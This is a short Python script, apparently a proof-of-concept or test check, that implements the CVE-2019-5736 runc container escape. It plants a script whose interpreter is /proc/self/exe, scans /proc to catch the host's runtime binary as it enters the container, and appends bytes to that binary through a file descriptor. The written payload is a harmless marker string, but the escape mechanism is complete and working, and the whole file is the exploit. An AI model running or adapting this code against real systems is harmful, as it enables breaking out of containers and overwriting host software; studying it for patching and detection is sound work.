# CVE-2019-5736: the program of the host that enters the sandbox is asked to execute a script that names /proc/self/exe as
# its interpreter, so that it executes itself. One that changes its root and executes what it is given does so again and
# again: it stands still to be caught. Once it is, the script goes, the program ends, and is written to.
CATCH_LIMIT = WRITE_LIMIT = 10
SCRIPT = "/tmp/entry"


def append(link):
    deadline = time.monotonic() + WRITE_LIMIT
    while time.monotonic() < deadline:
        try:
            file = os.open(link, os.O_WRONLY | os.O_APPEND)
        except OSError as error:
            if error.errno == errno.ETXTBSY:
                continue
            raise
        os.write(file, b"overwritten")
        return f"wrote to {os.readlink(link)}"
    raise Refused("it stays in use")


def catch():
    deadline = time.monotonic() + CATCH_LIMIT
    failures = {}
    while time.monotonic() < deadline:
        # The newest first: most programs that enter are there for a moment only.
        for process in sorted(map(int, filter(str.isdigit, os.listdir("/proc"))), reverse=True):
            link = f"/proc/{process}/exe"
            try:
                if process == os.getpid() or not is_entry(os.readlink(link)):
                    continue
                return os.open(link, os.O_RDONLY)
            except OSError as error:
                failures[str(error.strerror)] = link
    raise Refused(f"no program of the host was caught: {failures}")


def catch_and_overwrite():
    with open(f"{SCRIPT}.new", "w") as script:
        script.write("#!/proc/self/exe /\n")
    os.chmod(f"{SCRIPT}.new", 0o755)
    os.rename(f"{SCRIPT}.new", SCRIPT)
    try:
        file = catch()
    finally:
        # This also says that nobody need enter any more.
        os.remove(SCRIPT)
    return append(f"/proc/self/fd/{file}")


def is_entry(target):
    return any(word in target for word in setting("ENTRY").split())


attempt(catch_and_overwrite)
